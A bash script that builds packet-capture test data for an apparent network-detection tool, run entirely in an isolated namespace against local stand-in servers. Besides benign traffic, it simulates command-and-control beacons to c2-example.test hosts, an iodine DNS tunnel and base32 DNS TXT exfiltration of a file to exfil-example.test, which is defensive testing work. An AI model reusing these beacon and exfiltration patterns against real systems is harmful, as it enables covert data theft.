#!/usr/bin/env bash
# pcaps/make.sh -- regenerate the project's own captures from real clients and servers.
#
# usage: sudo pcaps/make.sh [CAPTURE...]       (default: every capture; names below)
#        OUT_DIR=DIR pcaps/make.sh ...          (write somewhere else than pcaps/)
#
# Everything runs inside a private network namespace (c2tap-pcaps) on its loopback: dnsmasq
# answers DNS on 127.0.0.1:53 from local records only (nothing is forwarded anywhere but the
# one tunnel domain, to iodined on 127.0.0.7 in the same namespace), dig,
# curl and glibc's stub resolver ask it, python3's http.server answers HTTP on 127.0.0.2:8080,
# the stand-ins of start_servers (pcaps/server.py over HTTP and TLS, openssl s_server on 7844,
# pcaps/connect-proxy.py, a silent UDP 443) answer curl, openssl s_client and headless
# Chromium, and tcpdump records lo. The behavioural captures (beacons, a long-held TLS
# connection, an iodine DNS tunnel, TXT exfiltration, benign browsing) run pcaps/clients.py,
# curl, dig and iodine against the same stand-ins; the beacons, made at a 1 s base interval,
# are then stretched by scripts/timescale-pcap.py (SCALE_FACTOR, SCALE_THRESHOLD). At the end
# scripts/derive-pcaps.py rewrites some of the captures into the hard cases (reordering,
# conflicting retransmissions, ...). Loopback's MTU is set to 1500 and its segmentation/receive
# offloads are switched off so the captures look like what a NIC would show (one packet per
# wire segment), not 64 KiB super-packets. Transmit checksums on lo cannot be switched off:
# TCP/UDP checksums in these files are not valid (checksum offload, as on most real captures).
#
# Each capture is one function (capture_NAME) that starts tcpdump, runs its clients, and stops
# it. Query IDs, source ports and times change from run to run; the set and order of questions,
# requests and connections does not (every dig is sent once: +tries=1, and dnsmasq answers
# locally at once); only the number of Chromium's QUIC retransmissions within its 2 s varies.
# The sleeps, body sizes and names of the behavioural captures come from fixed seeds, so they
# are the same every run; the iodine tunnel's polling and fragment counts vary a little.
# See pcaps/README.md for what each file holds and which names are expected to alert.
set -euo pipefail

NS=c2tap-pcaps
HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
OUT_DIR=${OUT_DIR:-$HERE}
CAPTURES=(dns_tunnels dns_benign dns_tcp http_curl http_keepalive tls_curl tls_h2_7844 connect_proxy
          chromium_tls chromium_quic
          beacon_http beacon_https beacon_keepalive longpoll_tls dns_iodine dns_txt_exfil
          benign_browsing benign_cdn)
# The beacons are captured at a 1 s base interval, then every gap longer than SCALE_THRESHOLD
# seconds (the sleeps between check-ins) is multiplied by SCALE_FACTOR: 1 s becomes 60 s.
# RAW_DIR=DIR also keeps the unscaled captures there.
SCALE_FACTOR=${SCALE_FACTOR:-60}
SCALE_THRESHOLD=${SCALE_THRESHOLD:-0.3}
RAW_DIR=${RAW_DIR:-}
# The iodine client's tun device is moved here (see capture_dns_iodine).
TUN_NS=c2tap-pcaps-tun
# The registered domains of the benign captures (each a --local zone, all names under it one
# address): a handful of sites for benign-browsing, fifteen for benign-cdn.
BROWSE_HTTP=(www.news-example.test www.wiki-example.test forum.hobby-example.test)
BROWSE_HTTPS=(www.shop-example.test mail.webmail-example.test)
CDN_DOMAINS=(newsportal.test shopcart.test videohub.test socialfeed.test searchly.test
             mapsnow.test webfonts.test metrics-collect.test adserve.test edgecdn.test
             fastassets.test streamly.test weatherly.test docsonline.test pixelcloud.test)

log() { printf 'make.sh: %s\n' "$*" >&2; }
die() { log "$*"; exit 1; }

[ "$(id -u)" -eq 0 ] || die "run as root (network namespaces, tcpdump): sudo $0"
for tool in ip ethtool dnsmasq tcpdump dig curl python3 openssl chromium iodine iodined; do
    command -v "$tool" >/dev/null || die "$tool not found: run scripts/install-deps.sh pcaps"
done

WORK=$(mktemp -d /tmp/c2tap-pcaps.XXXXXX)
DNSMASQ_PID=""
HTTP_PID=""
TCPDUMP_PID=""
# The other stand-in servers (server.py with and without TLS, openssl s_server, the CONNECT
# proxy, the silent UDP listener), stopped at exit.
SERVER_PIDS=()

cleanup() {
    set +e # clean up as much as possible, whatever fails
    local pid
    for pid in "$TCPDUMP_PID" "${SERVER_PIDS[@]}" "$HTTP_PID" "$DNSMASQ_PID"; do
        [ -n "$pid" ] || continue
        kill "$pid" 2>/dev/null
        wait "$pid" 2>/dev/null
    done
    ip netns del "$NS" 2>/dev/null || true
    ip netns del "$TUN_NS" 2>/dev/null || true
    rm -rf "/etc/netns/$NS" "$WORK"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

in_ns() { ip netns exec "$NS" "$@"; }
# Servers started in the background call `ip netns exec` directly (not in_ns) so that $! is
# the server itself (ip execs it) and not a subshell a signal would not reach.

setup_ns() {
    # A namespace left behind by a killed run would make `ip netns add` fail.
    ip netns del "$NS" 2>/dev/null || true
    ip netns add "$NS"
    in_ns ip link set lo mtu 1500 up
    in_ns ethtool -K lo tso off gso off gro off tx-udp-segmentation off >/dev/null
    # `ip netns exec` bind-mounts these over /etc/resolv.conf and /etc/hosts, so glibc's
    # stub resolver (curl, later browsers) asks our dnsmasq and nothing from the host leaks in.
    mkdir -p "/etc/netns/$NS"
    printf 'nameserver 127.0.0.1\noptions attempts:1 timeout:2\n' >"/etc/netns/$NS/resolv.conf"
    printf '127.0.0.1 localhost\n::1 localhost\n' >"/etc/netns/$NS/hosts"
}

# The zone. --address answers a domain and everything below it; --local makes dnsmasq the
# authority there, so a type it has no record for gets NOERROR/no data (not REFUSED). Names
# under no --local domain are REFUSED (there is no upstream), /example.org/ gives NXDOMAIN.
start_dnsmasq() {
    # The benign captures' domains: 127.0.0.50.. for the browsing sites, 127.0.0.60.. for
    # the CDN ones, one address per registered domain.
    local benign=() d i=50
    for d in "${BROWSE_HTTP[@]}" "${BROWSE_HTTPS[@]}"; do
        d=${d#*.}
        benign+=("--local=/$d/" "--address=/$d/127.0.0.$i")
        i=$((i + 1))
    done
    i=60
    for d in "${CDN_DOMAINS[@]}"; do
        benign+=("--local=/$d/" "--address=/$d/127.0.0.$i")
        i=$((i + 1))
    done
    ip netns exec "$NS" dnsmasq --keep-in-foreground --no-resolv --no-hosts --no-poll \
        --listen-address=127.0.0.1 --bind-interfaces --port=53 \
        --user=root --group=root --pid-file="$WORK/dnsmasq.pid" \
        --log-queries --log-facility="$WORK/dnsmasq.log" \
        --address=/argotunnel.com/127.0.0.2 --local=/argotunnel.com/ \
        --address=/trycloudflare.com/127.0.0.2 --local=/trycloudflare.com/ \
        --address=/devtunnels.ms/127.0.0.3 --local=/devtunnels.ms/ \
        --address=/tunnels.api.visualstudio.com/127.0.0.3 --local=/tunnels.api.visualstudio.com/ \
        --address=/remoteassistance.support.services.microsoft.com/127.0.0.4 \
        --local=/remoteassistance.support.services.microsoft.com/ \
        --srv-host=_v2-origintunneld._tcp.argotunnel.com,region1.v2.argotunnel.com,7844 \
        --local=/example.com/ --host-record=example.com,127.0.0.10,2001:db8::10 \
        --txt-record=example.com,"v=spf1 -all" \
        --local=/wikipedia.org/ --local=/wikimedia.org/ \
        --host-record=dyna.wikimedia.org,127.0.0.20 --cname=www.wikipedia.org,dyna.wikimedia.org \
        --local=/debian.org/ --local=/fastlydns.net/ --host-record=debian.org,127.0.0.30 \
        --host-record=prod.debian.map.fastlydns.net,127.0.0.31 \
        --cname=debian.map.fastlydns.net,prod.debian.map.fastlydns.net \
        --cname=www.debian.org,debian.map.fastlydns.net \
        --local=/example.org/ \
        --local=/c2-example.test/ --address=/update.c2-example.test/127.0.0.40 \
        --address=/api.c2-example.test/127.0.0.41 --address=/sync.c2-example.test/127.0.0.42 \
        --address=/push.c2-example.test/127.0.0.43 \
        --local=/exfil-example.test/ \
        --local=/tunnel-example.test/ --server=/t.tunnel-example.test/127.0.0.7 \
        "${benign[@]}" \
        2>"$WORK/dnsmasq.err" &
    DNSMASQ_PID=$!
    for _ in $(seq 50); do
        in_ns dig @127.0.0.1 +tries=1 +time=1 +short example.com A >/dev/null 2>&1 && return
        kill -0 "$DNSMASQ_PID" 2>/dev/null || break
        sleep 0.1
    done
    cat "$WORK/dnsmasq.err" >&2
    die "dnsmasq did not start"
}

start_http() {
    mkdir -p "$WORK/www"
    printf 'c2tap test page\n' >"$WORK/www/index.html"
    ip netns exec "$NS" python3 -m http.server --bind 127.0.0.2 --directory "$WORK/www" 8080 \
        >"$WORK/http.log" 2>&1 &
    HTTP_PID=$!
    for _ in $(seq 50); do
        in_ns curl -s -o /dev/null http://127.0.0.2:8080/ && return
        sleep 0.1
    done
    die "http.server did not start"
}

# capture_start NAME: record lo into $WORK/NAME.pcap until capture_stop.
# wait_tcp ADDR PORT: until something accepts connections there.
wait_tcp() {
    for _ in $(seq 100); do
        in_ns python3 -c 'import socket,sys; socket.create_connection((sys.argv[1], int(sys.argv[2])), 1).close()' \
            "$1" "$2" 2>/dev/null && return
        sleep 0.1
    done
    die "nothing listens on $1:$2"
}

# The other stand-ins: a self-signed certificate made now (never committed), pcaps/server.py
# as HTTP/1.1 on 127.0.0.3:8080 and over TLS on *:443, openssl s_server with ALPN h2 on
# 127.0.0.2:7844 (cloudflared's edge port), pcaps/connect-proxy.py on 127.0.0.5:3128, and a
# UDP socket on *:443 that reads and never answers (without it the kernel would answer QUIC
# Initials with ICMP port unreachable, and Chromium would give up after its first packet).
start_servers() {
    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 \
        -keyout "$WORK/key.pem" -out "$WORK/cert.pem" -subj /CN=c2tap-standin \
        -addext subjectAltName=DNS:region1.v2.argotunnel.com,DNS:abc123-8080.usw2.devtunnels.ms,DNS:example.com \
        2>/dev/null
    ip netns exec "$NS" python3 "$HERE/server.py" 127.0.0.3 8080 >"$WORK/server-http.log" 2>&1 &
    SERVER_PIDS+=($!)
    ip netns exec "$NS" python3 "$HERE/server.py" 0.0.0.0 443 --tls "$WORK/cert.pem" "$WORK/key.pem" \
        >"$WORK/server-tls.log" 2>&1 &
    SERVER_PIDS+=($!)
    # -naccept would end it after one client; -quiet keeps the log short. stdin from /dev/null
    # would make it exit at once: it reads a pipe nobody writes.
    mkfifo "$WORK/s_server.in"
    ip netns exec "$NS" openssl s_server -accept 127.0.0.2:7844 -cert "$WORK/cert.pem" \
        -key "$WORK/key.pem" -alpn h2 -quiet <>"$WORK/s_server.in" >"$WORK/s_server.log" 2>&1 &
    SERVER_PIDS+=($!)
    ip netns exec "$NS" python3 "$HERE/connect-proxy.py" 127.0.0.5 3128 >"$WORK/proxy.log" 2>&1 &
    SERVER_PIDS+=($!)
    ip netns exec "$NS" python3 -c 'import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("0.0.0.0", 443))
while True:
    s.recv(65536)' >"$WORK/udp443.log" 2>&1 &
    SERVER_PIDS+=($!)
    # The behavioural captures' servers: server.py as HTTP/1.1 on *:80, and openssl s_server
    # -rev (it answers each line with the line reversed) on 127.0.0.43:8443.
    ip netns exec "$NS" python3 "$HERE/server.py" 0.0.0.0 80 >"$WORK/server-http80.log" 2>&1 &
    SERVER_PIDS+=($!)
    mkfifo "$WORK/s_server_rev.in"
    ip netns exec "$NS" openssl s_server -accept 127.0.0.43:8443 -cert "$WORK/cert.pem" \
        -key "$WORK/key.pem" -rev -quiet <>"$WORK/s_server_rev.in" >"$WORK/s_server_rev.log" 2>&1 &
    SERVER_PIDS+=($!)
    wait_tcp 127.0.0.3 8080
    wait_tcp 127.0.0.40 80
    wait_tcp 127.0.0.43 8443
    wait_tcp 127.0.0.2 443
    wait_tcp 127.0.0.2 7844
    wait_tcp 127.0.0.5 3128
}

# capture_start NAME [FILTER]: only packets matching the tcpdump FILTER (default: all).
capture_start() {
    CURRENT=$1
    local filter=${2:-}
    : >"$WORK/tcpdump.err"
    # -Z root: Debian's tcpdump otherwise drops to its own user, which cannot write $WORK.
    # --immediate-mode: without it libpcap hands packets over in blocks once a second, and
    # the packets of the last block would be lost when tcpdump is stopped. -B 32768: a 32 MiB
    # kernel buffer (the default 2 MiB dropped packets of the iodine tunnel's bursts).
    # shellcheck disable=SC2086 # the filter is several words
    ip netns exec "$NS" tcpdump -i lo -B 32768 -w "$WORK/$CURRENT.pcap" -s 0 -U -Z root --immediate-mode \
        $filter 2>"$WORK/tcpdump.err" &
    TCPDUMP_PID=$!
    for _ in $(seq 100); do
        grep -q 'listening on' "$WORK/tcpdump.err" && return
        kill -0 "$TCPDUMP_PID" 2>/dev/null || break
        sleep 0.05
    done
    cat "$WORK/tcpdump.err" >&2
    die "tcpdump did not start"
}

capture_stop() {
    sleep 0.3 # let the last answers and FINs reach lo
    kill -INT "$TCPDUMP_PID"
    wait "$TCPDUMP_PID" || true
    TCPDUMP_PID=""
    grep -E 'captured|dropped by kernel' "$WORK/tcpdump.err" | sed "s/^/make.sh: $CURRENT: /" >&2
    grep -qE '^0 packets dropped by kernel' "$WORK/tcpdump.err" || die "$CURRENT: tcpdump dropped packets"
    install -m 0644 "$WORK/$CURRENT.pcap" "$OUT_DIR/$CURRENT.pcap"
    [ -n "${SUDO_UID:-}" ] && chown "$SUDO_UID:${SUDO_GID:-$SUDO_UID}" "$OUT_DIR/$CURRENT.pcap"
    log "wrote $OUT_DIR/$CURRENT.pcap ($(stat -c %s "$OUT_DIR/$CURRENT.pcap") bytes)"
}

# q ARGS...: one dig question (or several, with +keepopen), sent once.
q() { in_ns dig @127.0.0.1 +tries=1 +time=2 "$@" >>"$WORK/dig.log" 2>&1; }

# What cloudflared, VS Code dev tunnels and Quick Assist look up: every question alerts.
capture_dns_tunnels() {
    capture_start dns-tunnels
    q region1.v2.argotunnel.com A                        # cloudflared edge discovery
    q region2.v2.argotunnel.com AAAA                     # no AAAA record: NOERROR, no data
    q _v2-origintunneld._tcp.argotunnel.com SRV          # cloudflared's SRV lookup
    q update.argotunnel.com A                            # cloudflared's update check
    q api.trycloudflare.com A                            # quick tunnels
    q api.trycloudflare.com TYPE65                       # HTTPS record, as browsers ask
    q abc123-8080.usw2.devtunnels.ms A                   # VS Code dev tunnel
    q global.rel.tunnels.api.visualstudio.com A          # VS Code tunnel service
    q remoteassistance.support.services.microsoft.com A  # Quick Assist
    capture_stop
}

# Everyday lookups that must not alert, with the answers a resolver gives.
capture_dns_benign() {
    capture_start dns-benign
    q example.com A
    q example.com AAAA
    q example.com TXT
    q debian.org A
    q debian.org MX                 # NOERROR, no data
    q www.debian.org A              # CNAME chain of two
    q www.wikipedia.org A           # CNAME to dyna.wikimedia.org
    q www.wikipedia.org TYPE65      # HTTPS record: no data
    q no-such-host.example.org A    # NXDOMAIN
    q www.google.com A              # REFUSED (no upstream)
    q -x 127.0.0.10                 # PTR 10.0.0.127.in-addr.arpa
    capture_stop
}

# DNS over TCP: one question per connection, and two questions in one connection.
capture_dns_tcp() {
    capture_start dns-tcp
    q +tcp abc123-8080.usw2.devtunnels.ms A
    q +tcp +keepopen region1.v2.argotunnel.com A example.com A
    q +tcp _v2-origintunneld._tcp.argotunnel.com SRV
    q +tcp debian.org A
    capture_stop
}

# curl resolving through glibc's stub (A and AAAA in parallel) and fetching over HTTP.
capture_http_curl() {
    capture_start http-curl
    in_ns curl -sS -o /dev/null http://region1.v2.argotunnel.com:8080/
    capture_stop
}

# The body of curl's POSTs: 300 bytes, one segment.
make_body() {
    python3 -c 'import sys; sys.stdout.write(("c2tap body " * 30)[:299] + "\n")' >"$WORK/body.txt"
}

# curl_keepalive BASE_URL CURL_ARGS...: one curl, one connection, four requests: GET, POST
# with Content-Length, POST with Transfer-Encoding: chunked, GET (`--next` keeps the
# connection; -sS and --resolve are repeated because --next resets the options).
curl_keepalive() {
    local base=$1
    shift
    in_ns curl -sS -o /dev/null "$@" "$base/" \
        --next -sS -o /dev/null "$@" -d @"$WORK/body.txt" "$base/form" \
        --next -sS -o /dev/null "$@" -H 'Transfer-Encoding: chunked' -d @"$WORK/body.txt" "$base/upload" \
        --next -sS -o /dev/null "$@" "$base/last"
}

# HTTP/1.1 keep-alive to a dev-tunnel name: four requests on one connection.
capture_http_keepalive() {
    make_body
    capture_start http-keepalive
    curl_keepalive http://abc123-8080.usw2.devtunnels.ms:8080 \
        --resolve abc123-8080.usw2.devtunnels.ms:8080:127.0.0.3
    capture_stop
}

# HTTPS with curl (OpenSSL): the keep-alive sequence to a dev-tunnel name, then one GET to a
# benign name. --resolve: no DNS in this file, the SNI is what counts.
capture_tls_curl() {
    make_body
    capture_start tls-curl
    curl_keepalive https://abc123-8080.usw2.devtunnels.ms -k \
        --resolve abc123-8080.usw2.devtunnels.ms:443:127.0.0.3
    in_ns curl -sS -o /dev/null -k --resolve example.com:443:127.0.0.10 https://example.com/
    capture_stop
}

# What cloudflared's edge connection looks like over TCP: TLS to port 7844 with SNI
# h2.cftunnel.com and ALPN h2 (openssl s_client, the handshake only).
capture_tls_h2_7844() {
    capture_start tls-h2-7844
    in_ns openssl s_client -connect 127.0.0.2:7844 -servername h2.cftunnel.com -alpn h2 \
        </dev/null >"$WORK/s_client.log" 2>&1 || true
    capture_stop
}

# curl through the CONNECT proxy: CONNECT region1.v2.argotunnel.com:443 (the proxy asks
# dnsmasq for the name), then TLS inside the tunnel.
capture_connect_proxy() {
    capture_start connect-proxy
    in_ns curl -sS -o /dev/null -k -x http://127.0.0.5:3128 https://region1.v2.argotunnel.com/
    capture_stop
}

# chromium ARGS...: headless Chromium as the probe ran it, with a new empty profile, without
# its background networking (nothing but the page), names mapped to the stand-ins, self-signed
# certificates accepted. chromium_run SECONDS ARGS...: ends when the page is loaded
# (--dump-dom) or after SECONDS.
CHROMIUM_N=0
chromium_run() {
    local secs=$1
    shift
    CHROMIUM_N=$((CHROMIUM_N + 1))
    local profile="$WORK/chromium-$CHROMIUM_N"
    mkdir -p "$profile"
    in_ns timeout "$secs" chromium --headless=new --no-sandbox --disable-gpu --no-first-run \
        --disable-background-networking --disable-component-update --disable-sync \
        --disable-default-apps --disable-extensions --no-default-browser-check \
        --user-data-dir="$profile" --ignore-certificate-errors \
        --host-resolver-rules='MAP *.argotunnel.com 127.0.0.2, MAP *.devtunnels.ms 127.0.0.3, MAP * ~NOTFOUND' \
        "$@" >>"$WORK/chromium.log" 2>&1 || true
}

# Chromium over TLS (TCP): its ClientHello carries a post-quantum key share (X25519MLKEM768,
# over 1 KB) and spans two segments on the 1500-byte loopback.
capture_chromium_tls() {
    capture_start chromium-tls 'tcp port 443'
    chromium_run 10 --disable-quic --dump-dom https://region1.v2.argotunnel.com/
    capture_stop
}

# Chromium over QUIC to the silent UDP listener: its Initials (the ClientHello spans two
# packets) and their retransmissions, for 2 s per run (a real server would answer).
capture_chromium_quic() {
    capture_start chromium-quic 'udp port 443'
    local host
    for host in region1.v2.argotunnel.com abc123-8080.usw2.devtunnels.ms; do
        chromium_run 2 --enable-quic --origin-to-force-quic-on="$host:443" "https://$host/"
    done
    capture_stop
}

# --- Behavioural captures: beacons, a long-held connection, DNS tunnels, benign near-misses ---

# scale NAME: NAME.pcap in OUT_DIR becomes the raw capture with every gap longer than
# SCALE_THRESHOLD s multiplied by SCALE_FACTOR (the raw one is kept in RAW_DIR when set).
scale() {
    python3 "$HERE/../scripts/timescale-pcap.py" --factor "$SCALE_FACTOR" \
        --threshold "$SCALE_THRESHOLD" "$WORK/$1.pcap" "$OUT_DIR/$1.pcap"
    [ -n "${SUDO_UID:-}" ] && chown "$SUDO_UID:${SUDO_GID:-$SUDO_UID}" "$OUT_DIR/$1.pcap"
    if [ -n "$RAW_DIR" ]; then
        mkdir -p "$RAW_DIR"
        install -m 0644 "$WORK/$1.pcap" "$RAW_DIR/$1.pcap"
    fi
    log "$1: gaps over ${SCALE_THRESHOLD}s scaled x$SCALE_FACTOR"
}

# An HTTP beacon: 60 check-ins, each a new curl (glibc's stub asks A and AAAA, a new TCP
# connection, one POST of 200..260 bytes), then a sleep of 1 s +-20% (uniform).
capture_beacon_http() {
    mkdir -p "$WORK/beacon-http"
    python3 "$HERE/clients.py" beacon-plan 60 1 0.2 200 260 1 "$WORK/beacon-http" >"$WORK/beacon-http.plan"
    capture_start beacon-http
    local gap body
    while read -r gap body; do
        in_ns curl -sS -o /dev/null -H 'Content-Type: application/octet-stream' \
            --data-binary @"$body" http://update.c2-example.test/submit.php
        sleep "$gap"
    done <"$WORK/beacon-http.plan"
    capture_stop
    scale beacon-http
}

# The same over HTTPS (curl -k to server.py's TLS on 127.0.0.41:443), its own seed.
capture_beacon_https() {
    mkdir -p "$WORK/beacon-https"
    python3 "$HERE/clients.py" beacon-plan 60 1 0.2 200 260 2 "$WORK/beacon-https" >"$WORK/beacon-https.plan"
    capture_start beacon-https
    local gap body
    while read -r gap body; do
        in_ns curl -sS -k -o /dev/null -H 'Content-Type: application/octet-stream' \
            --data-binary @"$body" https://api.c2-example.test/api/v1/status
        sleep "$gap"
    done <"$WORK/beacon-https.plan"
    capture_stop
    scale beacon-https
}

# A beacon that keeps one HTTP/1.1 connection: 60 POSTs on it, 1 s +-20% apart.
capture_beacon_keepalive() {
    capture_start beacon-keepalive
    in_ns python3 "$HERE/clients.py" keepalive sync.c2-example.test 80 60 1 0.2 200 260 3
    capture_stop
    scale beacon-keepalive
}

# One TLS connection held for ~90 s: 90 heartbeat lines of 50..100 bytes, 1 s +-10% apart,
# each answered by openssl s_server -rev.
capture_longpoll_tls() {
    capture_start longpoll-tls
    in_ns python3 "$HERE/clients.py" longpoll push.c2-example.test 8443 90 1 0.1 50 100 4
    capture_stop
    scale longpoll-tls
}

# An iodine DNS tunnel. iodined is authoritative for t.tunnel-example.test on 127.0.0.7:53
# (tun iod0, 198.18.53.1/27); the client asks dnsmasq, which forwards that domain to it. Both
# tun devices cannot live in one namespace (the kernel would deliver the tunnel's packets
# locally, never through the tunnel), so once the tunnel is up the client's tun (iod1) is moved
# to a second namespace ($TUN_NS) and given 198.18.53.2 there; the iodine process stays in
# $NS and keeps its DNS on lo. -r: no raw UDP mode, DNS only. Through it: 512 KiB up (client to
# server), then 2 MiB down, pseudo-random (iodine compresses). Only the client's leg (to and from
# 127.0.0.1:53) is recorded: what a sensor between a host and its resolver sees.
capture_dns_iodine() {
    local pass=c2tap-iodine pid
    ip netns del "$TUN_NS" 2>/dev/null || true
    ip netns add "$TUN_NS"
    ip -n "$TUN_NS" link set lo up
    ip netns exec "$NS" iodined -f -c -P "$pass" -l 127.0.0.7 -p 53 -d iod0 198.18.53.1/27 \
        t.tunnel-example.test >"$WORK/iodined.log" 2>&1 &
    SERVER_PIDS+=($!)
    for _ in $(seq 50); do
        grep -q 'Listening to dns' "$WORK/iodined.log" && break
        sleep 0.1
    done
    ip netns exec "$NS" python3 "$HERE/clients.py" tunnel-server 198.18.53.1 5001 2097152 5 \
        >"$WORK/tunnel-server.log" 2>&1 &
    SERVER_PIDS+=($!)
    capture_start dns-iodine 'not host 127.0.0.7'
    ip netns exec "$NS" iodine -f -r -P "$pass" -d iod1 127.0.0.1 t.tunnel-example.test \
        >"$WORK/iodine.log" 2>&1 &
    pid=$!
    SERVER_PIDS+=("$pid")
    for _ in $(seq 300); do
        grep -q 'Connection setup complete' "$WORK/iodine.log" && break
        kill -0 "$pid" 2>/dev/null || break
        sleep 0.1
    done
    grep -q 'Connection setup complete' "$WORK/iodine.log" || { cat "$WORK/iodine.log" >&2; die "iodine did not connect"; }
    ip -n "$NS" link set iod1 netns "$TUN_NS"
    ip -n "$TUN_NS" addr add 198.18.53.2/27 dev iod1
    ip -n "$TUN_NS" link set iod1 mtu 1130 up
    ip netns exec "$TUN_NS" python3 "$HERE/clients.py" tunnel-client 198.18.53.1 5001 524288 6 >&2
    kill "$pid"
    wait "$pid" 2>/dev/null || true
    capture_stop
    grep -E 'codec|fragment size|lazy' "$WORK/iodine.log" | sed 's/^/make.sh: iodine: /' >&2
    ip netns del "$TUN_NS"
}

# TXT exfiltration: /usr/share/common-licenses/GPL-3 (35149 bytes, in every Debian) in base32,
# 180 characters a question (D1.D2.D3.NNNN.x.exfil-example.test TXT), one dig -f, one
# question at a time; exfil-example.test is an empty local zone, every answer is NXDOMAIN.
capture_dns_txt_exfil() {
    python3 "$HERE/clients.py" exfil-names /usr/share/common-licenses/GPL-3 x.exfil-example.test \
        >"$WORK/exfil.batch"
    capture_start dns-txt-exfil
    in_ns dig @127.0.0.1 +tries=1 +time=2 -f "$WORK/exfil.batch" >>"$WORK/dig.log" 2>&1
    capture_stop
}

# Benign browsing: 30 requests in page views (a page and up to 3 assets, one curl, one
# keep-alive connection, HTTP or HTTPS by site) to five sites, Pareto-distributed pauses.
capture_benign_browsing() {
    python3 "$HERE/clients.py" browse-plan 7 "$(IFS=,; echo "${BROWSE_HTTP[*]}")" \
        "$(IFS=,; echo "${BROWSE_HTTPS[*]}")" >"$WORK/browse.plan"
    capture_start benign-browsing
    local gap urls args u
    while read -r gap urls; do
        args=()
        for u in $urls; do args+=(-o /dev/null "$u"); done
        in_ns curl -sS -k "${args[@]}"
        sleep "$gap"
    done <"$WORK/browse.plan"
    capture_stop
}

# Benign CDN-heavy browsing: 100+ names under fifteen registered domains, each resolved and
# fetched once or twice (a new curl each time), 0.05..0.4 s apart.
capture_benign_cdn() {
    python3 "$HERE/clients.py" cdn-plan 8 "${CDN_DOMAINS[@]}" >"$WORK/cdn.plan"
    capture_start benign-cdn
    local gap url
    while read -r gap url; do
        in_ns curl -sS -k -o /dev/null "$url"
        sleep "$gap"
    done <"$WORK/cdn.plan"
    capture_stop
}

main() {
    local want=("$@") c
    [ ${#want[@]} -gt 0 ] || want=("${CAPTURES[@]}")
    for c in "${want[@]}"; do
        c=${c//-/_}
        [[ " ${CAPTURES[*]} " == *" $c "* ]] || die "unknown capture '$c' (${CAPTURES[*]})"
    done
    log "dnsmasq $(dnsmasq --version | head -1 | awk '{print $3}'), $(dig -v 2>&1 | awk '{print $2}')," \
        "$(tcpdump --version | head -1), $(curl --version | head -1 | awk '{print $1, $2}'), kernel $(uname -r)"
    mkdir -p "$OUT_DIR"
    setup_ns
    start_dnsmasq
    start_http
    start_servers
    for c in "${want[@]}"; do "capture_${c//-/_}"; done
    # The hard cases real clients do not make on demand (reordering, conflicting
    # retransmissions, two-record hellos, pipelining, pickup without SYN, odd ports, QUIC
    # coalescing, a corrupted Initial, QUIC v2), rewritten from the captures just made.
    python3 "$HERE/../scripts/derive-pcaps.py" --src "$OUT_DIR" --testdata "$HERE/../src/proto/quic/testdata.rs"
    if [ -n "${SUDO_UID:-}" ]; then
        chown "$SUDO_UID:${SUDO_GID:-$SUDO_UID}" "$OUT_DIR"/*.pcap
    fi
}

main "$@"
